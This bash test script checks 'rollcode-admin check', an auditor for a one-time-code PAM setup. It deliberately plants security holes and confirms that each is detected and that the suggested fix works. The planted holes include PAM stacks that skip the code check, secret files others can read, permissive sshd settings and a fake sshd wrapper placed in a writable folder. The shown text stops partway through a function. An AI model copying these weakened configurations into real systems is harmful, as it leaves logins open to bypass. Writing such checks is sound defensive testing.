#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# check.sh [long] - rollcode-admin check: mistakes that were planted are found
# by name, what it says to do about them fixes them and locks nobody out, and on a
# right system it finds nothing.  What it says of stacks is what logins do.
# long: only more variants of the same mistakes, and more stacks.
# limit: 180
# long: 300
# shellcheck disable=SC2317,SC2016	# what spoils the system is called by name
. "$(dirname "$0")/../support/lib.sh"
need sqlite3 python3 logger
long=${1-}
private_machine "$@"
. "$TREE/tests/support/pam.sh"

ENVFILE=/etc/rollcode/rollcode.env
VERIFIER=/usr/local/libexec/rollcode/rollcode-verify
SOCKET=/run/rollcode/verify.sock
ROOT_SOCKET=/run/rollcode/root/verify.sock
SSHD=/etc/ssh/sshd_config
OURS="auth required pam_rollcode.so"

# --- a right system ---------------------------------------------------------

# stack NAME LINE...
stack() {
	printf '%s\n' "${@:2}" "account required pam_permit.so" \
	    "session required pam_permit.so" >"/etc/pam.d/$1"
}

arrange() {
	add_user ann
	add_user bob
	printf '%s\n' ann:sesam bob:sesam | chpasswd -c SHA256
	installed GUARD_AFTER=100 GUESSES=1000
	module_installed
	MODULE=$PAMDIR/pam_rollcode.so
	# Of people who can log in, these are all.
	sed -i '/^\(ann\|bob\|root\):/!s|:[^:]*$|:/usr/sbin/nologin|' /etc/passwd
	enroll ann
	enroll root
	admin enroll bob >"$T/uri" 2>&1
	FIRST=$(counter ann)
	mapfile -t CODES < <(codes ann 100)
	mkdir -p /etc/ssh
	printf '%s\n' "UsePAM yes" "KbdInteractiveAuthentication yes" \
	    "PasswordAuthentication no" "PermitRootLogin no" \
	    "AuthenticationMethods publickey,keyboard-interactive:pam" >"$SSHD"
	stack sudo "$OURS"
	keep
}

PLACES=(/etc/pam.d /etc/pam.conf /etc/ssh /etc/rollcode
    /usr/local/libexec/rollcode)

keep() {
	mkdir "$T/right"
	tar -C / -cf "$T/right/tar" "${PAMDIR#/}/pam_rollcode.so" \
	    "${PLACES[@]#/}" "${T#/}/store" "${T#/}/store-witness" 2>/dev/null
}

restore() {
	rm -rf "${PLACES[@]}" "$T/store" "$T/store-witness" "$MODULE" \
	    /run/rollcode
	[ -d /run/sshd ] || mkdir /run/sshd
	tar -C / -xpf "$T/right/tar"
	[ -z "$with_sshd" ] ||
	    stack sshd "auth requisite pam_unix.so" "$OURS"
}
with_sshd=

# --- what is found ----------------------------------------------------------

# found [ARGUMENT...]: in $T/found; sets $status, $names of what was found, and
# by name its $severity, its $place, and the $fix or $run of the first
names='' status=''
declare -A severity place fix run
found() {
	local line name=
	admin check "$@" >"$T/found" 2>"$T/sum"
	status=$?
	severity=() place=() fix=() run=() names=
	while IFS= read -r line; do
		if [[ $line =~ ^(error|warning|note)\ +([a-z-]+)\ +(.*) ]]; then
			name=${BASH_REMATCH[2]}
			[ -n "${severity[$name]-}" ] || names+=${names:+ }$name
			severity[$name]=${BASH_REMATCH[1]}
			place[$name]=${place[$name]-${BASH_REMATCH[3]}}
		elif [[ $line =~ ^\ +fix:\ (.*) ]]; then
			fix[$name]=${fix[$name]-${BASH_REMATCH[1]}}
		elif [[ $line =~ ^\ +run:\ (.*) ]]; then
			run[$name]=${run[$name]-${BASH_REMATCH[1]}}
		fi
	done <"$T/found"
}

# follow NAME: what it says is done, as somebody would who reads it
follow() {
	local file=${place[$1]%:*} line=${place[$1]##*:} text=${fix[$1]-}
	case $text in
	'auth '*) sed -i "${line}c$text" "$file" ;;
	*'in front of this line: "'*)
		text=${text#*\"} text=${text%\"}
		sed -i -e "${line}i$text" -e "/^$text\$/d" "$file" ;;
	'write success='*)
		text=${text#write } text=${text%% *}
		sed -i "${line}s/success=[0-9]*/$text/" "$file" ;;
	'write after it: '*) sed -i "${line}a${text#*: }" "$file" ;;
	*'take the word '*)
		text=${text#*take the word }
		sed -i "${line}s/ ${text%% *}//" "$file" ;;
	*'take the line out' | *'take one of the two lines out' | \
	    *'or take it out') sed -i "${line}d" "$file" ;;
	'write in place of this line: '*)
		text=${text#*: }
		sed -i "${line}c${text%%, then*}" "$file" ;;
	'write at the beginning of this file: '*)
		text=${text#*: }
		sed -i "1i${text%%, then*}" "$file" ;;
	*) echo "nobody can follow this: $text" ;;
	esac
}

# wrong_with NAME REMEDY: what is wrong with what was found of a planted mistake
wrong_with() {
	local got
	found "${ARGS[@]}"
	case " $names " in
	*" $1 "*) ;;
	*) echo "it was not found; but: $names"; cat "$T/found"; return ;;
	esac
	case ${severity[$1]}:$status in
	note:0 | note:1 | warning:1 | error:1) ;;
	*) echo "status $status for ${severity[$1]}" ;;
	esac
	[ -n "${fix[$1]-}${run[$1]-}" ] || { echo "no word of what to do"; return; }
	case $2 in
	fix) follow "$1" ;;
	run) bash -c "${run[$1]-false}" ;;
	*) bash -c "$2" ;;
	esac >"$T/fix.log" 2>&1 || echo "that fails: ${fix[$1]-}${run[$1]-}"
	[ "$2" != fix ] || cat "$T/fix.log"
	found "${ARGS[@]}"
	case " $names " in
	*" $1 "*) echo "it is still there"; cat "$T/fix.log" "$T/found" ;;
	esac
	[ -n "$LOGIN" ] || return
	got=$(gets_in "$LOGIN")
	[ "$got" = SUCCESS ] || echo "and then ann's login: $got"
}

# gets_in SERVICE: the result of ann's login, with her password and a code
gets_in() {
	local result
	read -r _ result _ < <("$PAMRUN" -p sesam /etc/pam.d "$1" \
	    <<<"ann"$'\t'"${CODES[$(counter ann) - FIRST]}")
	echo "$result"
}

# plant NAME REMEDY WHAT COMMAND...: a right system, but for what the command
# does.  The remedy is `run`, the command that was printed, `fix`, what it says
# is to be done, or a command that does that.  Where $LOGIN is a service ann gets
# in there afterwards.
plant() {
	local wrong
	restore
	"${@:4}" || { not_ok "$3: $1" "cannot be planted"; return; }
	wrong=$(wrong_with "$1" "$2")
	plants=$((plants + 1)) planted+=" $1"
	if [ -z "$wrong" ]; then
		ok "$3: $1"
	else
		not_ok "$3: $1" "see below"
		show "$wrong"
	fi
}
plants=0 planted=
ARGS=() LOGIN=

planted() {
	[ "$long" = long ] || plant "$@"
}

also() {	# a variant
	[ "$long" != long ] || plant "$@"
}

edit() {	# FILE SED...
	sed -i "${@:2}" "$1"
}

add() {	# FILE LINE
	echo "$2" >>"$1"
}

of_another_machine() {	# MARKER
	[ -s /etc/machine-id ] || printf '%032x\n' 1 >/etc/machine-id
	edit "$1" '/^HOST=/d' && add "$1" "HOST=$(printf '%032x' 1)"
}

link_to() {
	mv "$1" "$1.real" && ln -s "$1.real" "$1"
}

control() {	# CONTROL: of our line, behind one for a password
	stack sudo "auth required pam_unix.so" "auth $1 pam_rollcode.so"
}

export -f stack edit

# --- the table --------------------------------------------------------------

env_file() {
	local back="tar -C / -xpf $T/right/tar etc/rollcode"
	LOGIN=sudo
	planted env-file run "an env file others can read" \
	    chmod 644 "$ENVFILE"
	also env-file run "an env file of another owner" chown 1 "$ENVFILE"
	also env-file "$back" "an env file that is a link" link_to "$ENVFILE"
	also env-file run "a folder of the env file others can write" \
	    chmod 777 /etc/rollcode
	planted env-file "$back" "no env file" rm "$ENVFILE"
	planted env-line fix "an unknown key" add "$ENVFILE" TOLERENCE=5
	also env-line fix "a number that is none" \
	    add "$ENVFILE" TOLERANCE=five
	planted env-key "$back" "no key" edit "$ENVFILE" /^SECRET_KEY/d
	also env-key "$back" "a key that is none" \
	    edit "$ENVFILE" 's/^SECRET_KEY=.*/SECRET_KEY=secret/'
	planted env-previous run "a change of key that was not ended" \
	    add "$ENVFILE" "SECRET_KEY_PREVIOUS=$(printf '%064d' 1)"
	planted account "userdel ghost; $back" "an account that is not there" \
	    edit "$ENVFILE" 's/^ACCOUNT=.*/ACCOUNT=ghost/'
	planted account-person "usermod --shell /usr/sbin/nologin rollcode" \
	    "an account with a shell" usermod --shell /bin/sh rollcode
	also account-person "usermod --lock rollcode" \
	    "an account with a password" usermod --password x rollcode
	also env-file run "a file of somebody else's beside it" \
	    eval 'touch "$ENVFILE.new" && chown ann "$ENVFILE.new"'
}

read_only() {
	mount -n --bind "$1" "$1" && mount -n -o remount,bind,ro "$1"
}

no_room() {
	cp -a "$1/." "$T/away" && mount -n -t tmpfs -o size=512k room "$1" &&
	    cp -a "$T/away/." "$1"
}

store_cases() {
	local u=$T/store/users back
	back="rm -rf $T/store; tar -C / -xpf $T/right/tar ${T#/}/store
	    ${ENVFILE#/}"
	back=${back//$'\n'/ }
	planted store-place run "a store others can read" chmod 755 "$u"
	also store-place run "a store of another owner" chown 1 "$u"
	planted store-place run "a store that was given to root" \
	    chown -R root "$T/store"
	also store-place "$back" "no store" rm -r "$u"
	also store-marker run "a marker others can read" \
	    chmod 640 "$u/marker"
	planted store-marker "$back" "no marker" rm "$u/marker"
	planted store-key "$back" "a key of another store" \
	    edit "$ENVFILE" 's/^SECRET_KEY=./&0/;s/^\(SECRET_KEY=.\{64\}\).*/\1/'
	check "a key of another store: it says to put the key back" \
	    grep -q 'fix: put back the SECRET_KEY' \
	    <(edit "$ENVFILE" 's/^SECRET_KEY=./&0/;s/^\(SECRET_KEY=.\{64\}\).*/\1/'
	    admin check 2>&1)
	restore
	planted restored "rollcode-admin --conf $CONF restored --end -f" \
	    "a store that was restored" admin restored -f
	admin restored -f >"$T/out"
	admin check >"$T/said" 2>&1
	check "a store that was restored: it says how to go on" \
	    grep -q 'fix: rollcode-admin resync USER' "$T/said"
	found
	equal "a store that was restored: nothing else is said to be wrong" \
	    "$names" restored
	planted clone "rollcode-admin --conf $CONF restored --end -f" \
	    "a store of another machine" of_another_machine "$u/marker"
	planted store-space "umount $T/store" "a file system that is read-only" \
	    read_only "$T/store"
	also store-space "umount $T/store" "a file system that is full" \
	    no_room "$T/store"
	LOGIN=
	planted user-file "rollcode-admin enroll ann --replace" \
	    "a user's file that is empty" truncate -s 0 "$u/ann.db"
	also user-file run "a user's file others can read" \
	    chmod 644 "$u/ann.db"
}

# A change is made, and what was there before is put back.
put_back() {	# PLACE
	cp -a "$1" "$T/before" && admin disable ann >"$T/out" &&
	    admin enable ann >"$T/out" && cp -a "$T/before/." "$1" &&
	    rm -r "$T/before"
}

witness_cases() {
	local w=$T/store-witness
	planted witness-missing run "no directory for witnesses" rm -r "$w"
	planted witness-place run "one that others may enter" \
	    chmod 755 "$w"
	also witness-place run "one of another owner" chown -R 1 "$w"
	also witness-place "rm $w; mv $w.real $w" \
	    "a link in its place" link_to "$w"
	planted witness-file run "a witness that others can read" \
	    chmod 644 "$w/ann.witness"
	also witness-file run "one of another owner" \
	    chown 1 "$w/ann.witness"
	also witness-file "rm $w/ann.witness" "one that is damaged" \
	    truncate -s 100 "$w/ann.witness"
	planted witness-older "rollcode-admin unlock ann" \
	    "a witness that lacks a change" put_back "$w"
	planted user-older "rollcode-admin unlock ann" \
	    "a user's file that was put back" put_back "$T/store/users"
}

# A token at the end of its counters, with as many codes left.
last_codes() {
	admin enroll ann --replace \
	    --counter $((0x7fffffffffffffff - 1)) >"$T/uri" 2>&1
	[ "$1" -gt 0 ] || sqlite3 "$T/store/users/ann.db" \
	    "UPDATE token SET counter = $((0x7fffffffffffffff))"
}

guess() {
	local i code
	sed -i s/^GUARD_AFTER=.*/GUARD_AFTER=5/ "$ENVFILE"
	code=$(wrong "$(code ann)")
	for i in 1 2 3 4 5; do
		admin verify ann <<<"$code"
	done >"$T/out" 2>&1
	admin list | grep -q '^ann .*guarded'
}

tolerant() {
	admin enroll ann --replace --phone >"$T/uri" 2>&1 &&
	    add "$ENVFILE" TOLERANCE=30
}

every_way() {
	local way
	for way in login su sudo; do
		stack "$way" "auth sufficient pam_rootok.so" "$OURS"
	done
}

user_cases() {
	local i anew="rollcode-admin enroll ann --replace"
	planted token-ended "$anew" "a token that is exhausted" last_codes 0
	planted token-ends "$anew" "a token that soon is" last_codes 1
	planted token-policy "sed -i s/^TOLERANCE=.*/TOLERANCE=20/ $ENVFILE" \
	    "too much tolerance for 6 digits" tolerant
	planted token-digits "$anew" "6 digits" \
	    eval 'admin enroll ann --replace --phone >"$T/uri" 2>&1'
	planted user-disabled "rollcode-admin enable ann" \
	    "a user without an enabled token" \
	    admin disable ann
	planted user-guarded run "a guarded user" guess
	ARGS=(bob)
	planted user-unenrolled run "whom it was asked about has no token" \
	    admin remove bob -f
	ARGS=()
	planted user-missing "rollcode-admin enroll bob" \
	    "somebody who can log in has no token" admin remove bob -f
	planted user-account "rollcode-admin remove carl -f" \
	    "somebody has a token and no account" \
	    eval 'admin enroll carl --no-account >"$T/uri" 2>&1'
	planted root-way run "root has no token and is asked for one" \
	    eval 'admin remove root -f && stack su "$OURS"'
	also root-way "stack login 'auth required pam_unix.so'" \
	    "every way to root asks for a code" every_way
	planted nobody "rollcode-admin enroll ann" "nobody has a token" \
	    eval 'for u in root ann bob; do admin remove "$u" -f; done'
	[ "$long" != long ] || return
	restore
	found nosuch
	check "of a name without an account it says so" \
	    grep -q 'nosuch has no token, and there is no such account' \
	    "$T/found"
	equal "and has no command for that" "${run[user-unenrolled]-none}" none
	for ((i = 0; i < 52; i++)); do
		admin enroll "u$i" --no-account
		admin disable "u$i"
	done >"$T/uri" 2>&1
	found
	equal "of 52 disabled users 50 are named" \
	    "$(grep -c '^note  *user-disabled ' "$T/found")" 50
	equal "and who has no account is said nevertheless" \
	    "${severity[user-account]-nothing}" note
}

verifier_cases() {
	local back="tar -C / -xpf $T/right/tar usr/local/libexec/rollcode"
	LOGIN=sudo
	also helper run "a verifier others can change" chmod 777 "$VERIFIER"
	planted helper run "a verifier that is no program" chmod 644 "$VERIFIER"
	also helper "$back" "no verifier" rm "$VERIFIER"
	also helper "$back" "nothing to try stacks with" \
	    rm "${VERIFIER%/*}/rollcode-standin.so"
	planted verifier "$back" "a verifier that is another program" \
	    cp --remove-destination /bin/true "$VERIFIER"
	back="tar -C / -xpf $T/right/tar ${MODULE#/}"
	planted module "$back" "no module" rm "$MODULE"
	also module run "a module others can change" chmod 666 "$MODULE"
	also module run "a module others cannot read" chmod 600 "$MODULE"
	also module "$back" "a module that is none" \
	    eval "echo >$MODULE"
}

line_cases() {
	local sudo=/etc/pam.d/sudo
	planted pam-unused "stack sudo '$OURS'" "no service" rm "$sudo"
	ARGS=(--service sudo)
	planted pam-file run "a service others can change" chmod 666 "$sudo"
	planted pam-line fix "a type that is none" \
	    add "$sudo" "auht required pam_unix.so"
	also pam-line fix "a control that is none" \
	    add "$sudo" "auth requird pam_unix.so"
	also pam-line fix "a line that goes on beyond the end" \
	    add "$sudo" $'auth required pam_unix.so \\'
	planted pam-include fix "a file that is not there" \
	    add "$sudo" "@include nothing"
	also pam-include fix "a file that includes itself" \
	    add "$sudo" "auth substack sudo"
	planted stack "sed -i '\$d' $sudo" "what PAM cannot read" \
	    add "$sudo" $'auth required pam_unix.so \\'
	planted pam-conf "rm /etc/pam.conf" "the module in pam.conf" \
	    add /etc/pam.conf "sudo $OURS"
	planted line-module "stack sudo '$OURS'" "a name without .so" \
	    edit "$sudo" 's/\.so$//'
	planted line-module "sed -i s/rolcode/rollcode/ $sudo" \
	    "a name that is misspelt" edit "$sudo" s/rollcode/rolcode/
	also line-module "stack sudo '$OURS'" "a dash, which makes no difference" \
	    edit "$sudo" '1i-auth required pam_nothere.so'
	planted pam-file "stack sudo '$OURS'" "a file that is too big to look at" \
	    too_big "auth sufficient pam_permit.so"
	planted pam-line "sed -i 1d $sudo" "a comment whose end may be a line" \
	    edit "$sudo" "1i#$(printf '%1022s' '')auth sufficient pam_permit.so"
	planted pam-file "stack sudo '$OURS'" "a file in somebody's home" \
	    of_home "$T/home/ann"
	equal "their home stays theirs" "${run[pam-file]-none}" none
	planted line-twice fix "two lines that ask" \
	    stack sudo "auth required pam_unix.so" "$OURS" "$OURS"
	planted line-type fix "a line of another type" \
	    edit "$sudo" '$asession optional pam_rollcode.so'
	planted line-dash fix "a dash" edit "$sudo" '1s/^/-/'
	planted line-argument "sed -i 's/ nulok//' $sudo" "an argument" \
	    edit "$sudo" '1s/$/ nulok/'
	planted line-path run "a helper others can change" \
	    eval "cp $VERIFIER /etc/verifier; chmod 777 /etc/verifier
		sed -i '1s,$, helper=/etc/verifier,' $sudo"
	planted line-conf "stack sudo '$OURS'" "another env file" \
	    eval "cp -a $ENVFILE /etc/other.env
		sed -i '1s,$, conf=/etc/other.env,' $sudo"
	planted line-pass fix "use_first_pass behind nothing" \
	    edit "$sudo" '1s/$/ use_first_pass/'
	also line-pass fix "forward_pass before nothing" \
	    edit "$sudo" '1s/$/ forward_pass/'
}

too_big() {
	{ echo "$1"; head -c 1048576 /dev/zero | tr '\0' '\n'; } >/etc/pam.d/big
	stack sudo "@include big" "$OURS"
}

of_home() {
	echo "# nothing" >"$1/lines"
	chown ann "$1/lines"
	stack sudo "@include $1/lines" "$OURS"
}

include_of() {
	stack shared "auth sufficient pam_unix.so" "auth required pam_deny.so"
	stack sudo "auth $1 shared" "$OURS"
}
export -f include_of
export OURS

stack_cases() {
	local unix="auth required pam_unix.so"
	planted stack-refusal fix "sufficient alone" \
	    stack sudo "auth sufficient pam_rollcode.so" "@include common-auth"
	planted stack-refusal fix "optional" control optional
	also stack-refusal fix "default=ignore" control '[default=ignore]'
	also stack-refusal fix "a jump over what does not decide" \
	    stack sudo "$unix" \
	    "auth [success=ok auth_err=1 default=die] pam_rollcode.so" \
	    "auth required pam_env.so"
	planted stack-error fix "authinfo_unavail=ignore" \
	    control '[success=ok authinfo_unavail=ignore default=die]'
	also stack-error fix "system_err=ignore" \
	    control '[success=ok system_err=ignore default=bad]'
	also stack-error fix "module_unknown=ignore" \
	    control '[success=ok module_unknown=ignore default=bad]'
	also stack-error "stack sudo '$unix' '$OURS'" "a reset, over two lines" \
	    stack sudo "$unix" \
	    $'auth [success=ok service_err=reset default=bad] \\' \
	    "  pam_rollcode.so nodelay" "auth required pam_permit.so"
	planted stack-bypass fix "behind a sufficient line" \
	    stack sudo "auth sufficient pam_unix.so" "$OURS"
	planted stack-bypass fix "behind a jump that is too long" stack sudo \
	    "auth [success=2 default=ignore] pam_unix.so" \
	    "auth requisite pam_deny.so" "$OURS" "auth required pam_permit.so"
	also stack-bypass fix "behind a jump over it alone" stack sudo \
	    "auth [success=1 default=ignore] pam_unix.so" "$OURS" \
	    "auth required pam_permit.so"
	planted stack-bypass fix "behind a jump for whom only one knows" \
	    stack sudo "auth [success=3 default=ignore] pam_unix.so" \
	    "auth [success=2 default=ignore] pam_unix.so" \
	    "auth [success=2 default=ignore] pam_unix.so" \
	    "auth requisite pam_deny.so" "$OURS" "auth required pam_permit.so"
	planted stack-bypass fix "behind a jump on a result that is rare" \
	    stack sudo "auth [success=ok authinfo_unavail=1 default=die] \
pam_unix.so" "$OURS" "auth required pam_permit.so"
	also stack-bypass fix "behind done" stack sudo \
	    "auth [success=done default=die] pam_unix.so" "$OURS"
	also stack-bypass fix "behind whoever is let in" \
	    stack sudo "auth sufficient pam_permit.so" "$OURS"
	also stack-bypass "stack sudo '$OURS' 'auth include shared'" \
	    "behind an include" include_of include
	planted stack-exempt "stack sudo '$OURS'" "a group is exempt" \
	    stack sudo "auth [success=1 default=ignore] pam_succeed_if.so \
user ingroup staff" "$OURS" "auth required pam_permit.so"
	planted stack-unreached "stack sudo '$OURS'" "behind the end" \
	    stack sudo "auth requisite pam_deny.so" "$OURS"
	planted stack-closed "stack sudo '$OURS'" "a denial behind it" \
	    stack sudo "$OURS" "auth required pam_deny.so"
	also stack-closed "stack sudo '$OURS'" "a control in brackets that is none" \
	    control '[success=ok nonsense=die]'
	planted nullok-closed fix "nullok alone" stack sudo "$OURS nullok"
	also nullok-closed fix "nullok behind what only sets something" \
	    stack sudo "auth required pam_env.so" "$OURS nullok"
	planted nullok-open fix "nullok and pam_permit" \
	    stack sudo "$OURS nullok" "auth required pam_permit.so"
	planted nullok fix "nullok behind a password" \
	    stack sudo "$unix" "$OURS nullok"
	ARGS=()
}

setting() {	# KEY VALUE
	sed -i "s/^$1 .*/$1 $2/" "$SSHD"
}

keyless() {
	mkdir -p "$T/home/ann/.ssh"
	rm -f "$T/home/ann/.ssh/authorized_keys"
}

# drop_in NAME LINE...: beside sshd_config, which reads it first, as Debian's does
drop_in() {
	mkdir -p "$SSHD.d"
	grep -q '^Include' "$SSHD" || sed -i "1iInclude $SSHD.d/*.conf" "$SSHD"
	printf '%s\n' "${@:2}" >"$SSHD.d/$1.conf"
}

# Of a cloud's image, whose file is read before.
clouds() {
	edit "$SSHD" '/^AuthenticationM/d'
	drop_in 05-cloud "# of the image" "$1"
	drop_in 10-rollcode "UsePAM yes" "KbdInteractiveAuthentication yes" \
	    "PasswordAuthentication no"
}

# before_pam: the lines of sshd, before the one of PAM
before_pam() {
	stack sshd "auth requisite pam_unix.so"
	found ann --service sshd
	equal "before PAM names the module sshd's settings are looked at" \
	    "$names:$status" pam-unused:0
	edit "$SSHD" '/^AuthenticationM/d;/^Kbd/s/yes/no/'
	found ann --service sshd
	equal "and what is wrong with them is found" \
	    "${severity[sshd-asks]-}:$status" error:1
	found ann
	equal "but only if it was asked about sshd" "${severity[sshd-asks]-}" ""
}

root_by_key() {
	edit "$SSHD" '/^AuthenticationM/d;/^Permit/s/ .*/ without-password/'
}

sshd_cases() {
	with_sshd=1 LOGIN=sshd
	planted sshd-pam fix "UsePAM no" setting UsePAM no
	planted sshd-asks fix "nobody is asked" \
	    edit "$SSHD" '/^AuthenticationM/d;/^Kbd/s/yes/no/'
	planted sshd-password fix "passwords that answer every prompt" \
	    setting PasswordAuthentication yes
	planted sshd-password fix "also those of a file that wins" \
	    clouds "PasswordAuthentication yes"
	planted sshd-asks fix "and those that nobody is asked by" \
	    clouds "ChallengeResponseAuthentication no"
	restore
	clouds "KbdInteractiveAuthentication no"
	found
	equal "it is found where it stands" "${place[sshd-asks]-}" \
	    "$SSHD.d/05-cloud.conf:2"
	planted sshd-key "sed -i '1iAuthenticationMethods \
publickey,keyboard-interactive:pam keyboard-interactive:pam' $SSHD" \
	    "a key alone" edit "$SSHD" /^AuthenticationM/d
	planted sshd-key "sed -i '1iAuthenticationMethods \
publickey,keyboard-interactive:pam keyboard-interactive:pam' $SSHD
	    printf '%s\n' 'Match User root' \
	    'AuthenticationMethods publickey' >>$SSHD" \
	    "a key alone, root's too" root_by_key
	restore
	root_by_key
	found
	equal "a key alone: it has no command for that" \
	    "${fix[sshd-key]:+noted} ${run[sshd-key]-none}" "noted none"
	check "root is not shut out by what asks the others for a code" \
	    grep -qF "Match User root" <<<"${fix[sshd-key]-}"
	planted sshd-methods fix "a list of methods without a code" \
	    setting AuthenticationMethods \
	    "publickey,keyboard-interactive publickey"
	planted sshd-methods fix "and the code is all that is asked" \
	    eval 'setting AuthenticationMethods \
	    "publickey,keyboard-interactive publickey"; stack sshd "$OURS"'
	restore
	stack sshd "$OURS"
	setting AuthenticationMethods \
	    "publickey,keyboard-interactive publickey"
	found
	refused "then it is never enough without a key" \
	    grep -qF " keyboard-interactive:pam" <<<"${fix[sshd-methods]}"
	planted nullok-closed fix "no pam_permit behind nullok and a key" \
	    stack sshd "$OURS nullok"
	planted sshd run "sshd's own folder is missing" rmdir /run/sshd
	planted sshd-config "sed -i /^Nonsense/d $SSHD" "a bad sshd_config" \
	    add "$SSHD" "Nonsense yes"
	restore
	drop_in 50-bad "# a comment" "Nonsense yes"
	found
	equal "it is found in the file that has it" "${place[sshd-config]-}" \
	    "$SSHD.d/50-bad.conf:2"
	planted sshd-root "sed -i '/^Permit/s/ .*/ yes/' $SSHD" \
	    "a code of root, whom sshd asks for none" \
	    setting PermitRootLogin prohibit-password
	also sshd-root "printf '%s\n' 'Match User root' \
	    'AuthenticationMethods publickey' >>$SSHD" \
	    "the same, mended for root alone" \
	    setting PermitRootLogin prohibit-password
	before_pam
	ARGS=(ann)
	planted sshd-methods "sed -i '/^Match/,\$d' $SSHD" \
	    "a match for one user" \
	    add "$SSHD" $'Match User ann\nAuthenticationMethods publickey'
	planted sshd-no-key "echo ssh-ed25519 >$T/home/ann/.ssh/authorized_keys" \
	    "every list of methods wants a key, and she has none" keyless
	ARGS=() with_sshd='' LOGIN=
}

serve() {	# [ENVFILE]
	start "$VERIFIER" serve "$@" 2>"$T/serve.log"
	echo "$started" >"$T/pid"
	wait_for test -S "$SOCKET" -a -S "$ROOT_SOCKET"
}

end_service() {	# where one runs
	kill "$started" 2>/dev/null
	wait "$started"
}

other_store() {
	install -d -m 700 -o rollcode -g rollcode "$T/other"
	printf '%s\n' ACCOUNT=rollcode "DATABASE=sqlite:$T/other" >"$T/other.env"
	chmod 600 "$T/other.env"
	rollcode-admin --conf "$T/other.env" init >"$T/out" && serve "$T/other.env"
}

service_cases() {
	local end="kill \$(cat $T/pid)
	    timeout 5 sh -c 'while test -S $SOCKET; do sleep 0.05; done'"
	LOGIN=sudo
	planted socket run "a socket that not everybody can ask" \
	    eval 'serve && chmod 600 $SOCKET'
	end_service
	also socket run "a socket of another owner" \
	    eval 'serve && chown 1 $SOCKET'
	end_service
	also socket run "a socket in a folder others can change" \
	    eval 'serve && chmod 777 /run/rollcode'
	end_service
	also socket run "a socket in a folder nobody can enter" \
	    eval 'serve && chmod 700 /run/rollcode'
	end_service
	also socket run "no socket but a file" \
	    eval 'mkdir /run/rollcode && touch $SOCKET'
	also socket run "root's socket in a folder others can enter" \
	    eval 'serve && chmod 711 ${ROOT_SOCKET%/*}'
	end_service
	also socket run "root's socket for nobody" \
	    eval 'serve && chmod 0 $ROOT_SOCKET'
	end_service
	also service "touch $ROOT_SOCKET; rm $SOCKET $ROOT_SOCKET" \
	    "a service without root's socket" \
	    eval 'serve && rm $ROOT_SOCKET'
	end_service
	planted service "rm $SOCKET $ROOT_SOCKET" "a service that is gone" \
	    eval 'serve && kill -9 "$started"; wait "$started" 2>"$T/out"; true'
	planted service "sed -i /^CALLERS/d $ENVFILE" \
	    "callers without a service" add "$ENVFILE" CALLERS=ann
	planted verifier-differs "$end" \
	    "a service with another store" other_store
	end_service
	LOGIN=
}

feigned_sshd() {	# MODE
	printf '%s\n' '#!/bin/sh' "id -u >>$T/owned" 'exec /usr/sbin/sshd "$@"' \
	    >/usr/local/bin/sshd
	chmod "$1" /usr/local/bin/sshd
}

# A member of the group that may write /usr/local/bin, as on Debian 12.
not_run() {
	restore
	feigned_sshd 755
	chmod 2775 /usr/local/bin
	rm -f "$T/owned"
	found
	refused "a program that others could have put there is not run" \
	    test -e "$T/owned"
	chmod 755 /usr/local/bin
	found
	check "but for that it would be" test -e "$T/owned"
}

program_cases() {
	with_sshd=1
	planted program run "a program in a folder others can write" \
	    eval 'feigned_sshd 755 && chmod 775 /usr/local/bin'
	also program run "a program others can write" feigned_sshd 777
	also program "rm /usr/local/sbin/sshd" \
	    "a link that leads to somebody's" \
	    eval 'cp /bin/true $T/home/ann && chown ann $T/home/ann/true &&
	    ln -s $T/home/ann/true /usr/local/sbin/sshd'
	[ "$long" = long ] || not_run
	rm -f /usr/local/bin/sshd
	with_sshd=
}

# --- what it says of stacks is what logins do -------------------------------

agrees() {	# COUNT
	local out
	restore
	(
		cd /etc/rollcode || exit
		sed 's|^DATABASE=.*|DATABASE=sqlite:/nonexistent|' "$ENVFILE" \
		    >away.env
		sed 's/^SECRET_KEY=./&0/;s/^\(SECRET_KEY=.\{64\}\).*/\1/' \
		    "$ENVFILE" >key.env
		{ cat "$ENVFILE"; echo NONSENSE=1; } >bad.env
		chmod 600 ./*.env
	)
	{
		admin remove bob -f
		admin resync ann <<<"$(code ann -n 2)"
	} >"$T/out"
	codes ann $(($1 + 5)) >"$T/codes"
	out=$("$TREE/tests/tools/stacks.py" "$1" "$PAMRUN" <"$T/codes" 2>&1)
	if [[ $out =~ ^[0-9]+\ logins,\ [0-9]+\ let\ in$ ]]; then
		ok "it predicts what libpam does with $1 random stacks"
	else
		not_ok "it predicts what libpam does with $1 random stacks"
		show "$out"
	fi
	check "and some of those logins are let in" \
	    test "$(sed -n 's/.*logins, \(.*\) let in/\1/p' <<<"$out")" -gt "$1"
}

# --- and what is not --------------------------------------------------------

right() {
	with_sshd=1
	restore
	mkdir -p "$T/home/ann/.ssh"
	echo ssh-ed25519 >"$T/home/ann/.ssh/authorized_keys"
	equal "on a right system ann gets in" "$(gets_in sshd)" SUCCESS
	found
	equal "on a right system nothing is found" "$names" ""
	equal "and the status is 0" "$status" 0
	check "it says what it looked at" \
	    grep -qx "nothing wrong: 3 users, PAM services: sshd sudo" "$T/found"
	serve
	found
	equal "nor with the service" "$names" ""
	end_service
	stack sshd "@include common-auth" "$OURS"
	stack su "auth sufficient pam_rootok.so" "@include common-auth" "$OURS"
	stack rhel "auth sufficient pam_unix.so" "auth required pam_deny.so"
	stack sudo "auth substack rhel" "$OURS"
	stack gdm "auth optional pam_faildelay.so delay=3000000" \
	    "auth requisite pam_nologin.so" "@include common-auth" \
	    "auth [success=ok ignore=ignore default=bad] pam_rollcode.so" \
	    "auth optional pam_group.so"
	found
	equal "nor in stacks as they are on Debian and Fedora" "$names" ""
	stack sudo "auth requisite pam_rollcode.so forward_pass \
[prompt=Password and code: ]" "auth required pam_unix.so use_first_pass"
	found
	equal "nor where one line holds both" "$names" ""
	stack sudo "auth [success=ok default=ignore] pam_gone.so" \
	    "@include common-auth" "$OURS"
	found
	equal "nor where a module that is not there is ignored" "$names" ""
	stack sudo "auth [success=2 default=ignore] pam_succeed_if.so uid < 9" \
	    "auth [success=1 default=ignore] pam_succeed_if.so uid > 9999" \
	    "$OURS" "auth required pam_permit.so"
	found --service sudo
	equal "two rules that exempt people are worth a note" "$names" \
	    stack-exempt
	stack sudo "$OURS"
	stack passwd "$OURS"
	stack wrapper "auth include passwd"
	found
	check "a service that others include is one of its own" grep -qx \
	    "nothing wrong: 3 users, PAM services:.* passwd .* wrapper" \
	    "$T/found"
